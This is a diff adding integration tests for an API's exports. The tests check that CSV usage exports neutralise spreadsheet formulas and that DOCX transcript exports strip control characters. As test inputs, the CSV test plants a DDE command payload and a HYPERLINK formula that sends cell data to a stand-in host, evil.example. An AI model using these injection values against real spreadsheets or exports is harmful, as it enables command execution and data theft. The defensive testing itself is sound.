@@ -5,13 +5,16 @@ logs the statement's parameters; a forced 500 logs no request data; statement ti
 from __future__ import annotations
 
 import base64
+import csv
+import io
 import logging
 from collections.abc import AsyncIterator
 
+import docx
 import pytest
 from aiohttp import web
 from aiohttp.test_utils import TestClient, TestServer
-from sqlalchemy import text
+from sqlalchemy import text, update
 from sqlalchemy.ext.asyncio import AsyncEngine, AsyncSession, async_sessionmaker
 
 from api.app import create_app
@@ -19,11 +22,12 @@ from api.context import CONTEXT
 from core.logs import JsonFormatter, TextFormatter
 from store.database import open_database
 from store.engine import create_engine, create_sessionmaker
+from store.models import Participant
 from store.records import SessionRecord
 from store.settings import DatabaseSettings
 from store.stores import Store
 from tests.integration.api.conftest import Client, api_settings
-from tests.integration.api.support import error_of, seed_transcript, user
+from tests.integration.api.support import error_of, seed_transcript, seed_usage, user
 
 SECRET = "findme-7d1207-secret"
 
@@ -172,3 +176,48 @@ async def test_open_database_sets_the_statement_timeout_and_still_migrates(
         database.engine.connect() as conn,
     ):
         assert (await conn.execute(text("SHOW statement_timeout"))).scalar_one() == "1234ms"
+
+
+async def test_csv_exports_neutralise_formulas(
+    client: Client, repo: Store, sessionmaker: async_sessionmaker[AsyncSession]
+) -> None:
+    title = "+cmd|' /C calc'!A0"
+    name = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    record = await repo.sessions.create_session(space_id="space-a", created_by="eve", title=title)
+    await seed_usage(repo, record, "@eve", "61")
+    async with sessionmaker.begin() as db:
+        await db.execute(update(Participant).values(name=name))
+    responses = [
+        await client.get(
+            f"/api/sessions/{record.slug}/usage", params={"format": "csv"}, headers=user("eve")
+        ),
+        *[
+            await client.get(
+                "/api/usage",
+                params={"format": "csv", "group_by": group_by},
+                headers=user("eve", role="admin"),
+            )
+            for group_by in ("participant", "session", "user")
+        ],
+    ]
+    cells: list[str] = []
+    for response in responses:
+        assert response.status == 200
+        cells += [c for row in csv.reader(io.StringIO(await response.text())) for c in row]
+    assert "'" + name in cells and "'" + title in cells and "'@eve" in cells
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    # numbers stay numbers
+    assert "61.000" in cells and any(c.startswith("0.02") for c in cells)
+
+
+async def test_docx_export_of_a_title_with_control_characters(client: Client, repo: Store) -> None:
+    record = await repo.sessions.create_session(
+        space_id="space-a", created_by="ivan", title="Plan\x01ning\x1b"
+    )
+    await seed_transcript(repo, record, [("ivan", "Iv\x02an", 0, 1000, "hel\x0blo")])
+    response = await client.get(
+        f"/api/sessions/{record.slug}/transcript", params={"format": "docx"}, headers=user("ivan")
+    )
+    assert response.status == 200
+    document = docx.Document(io.BytesIO(await response.read()))
+    assert [p.text for p in document.paragraphs] == ["Planning", "[00:00:00] Ivan: hello"]
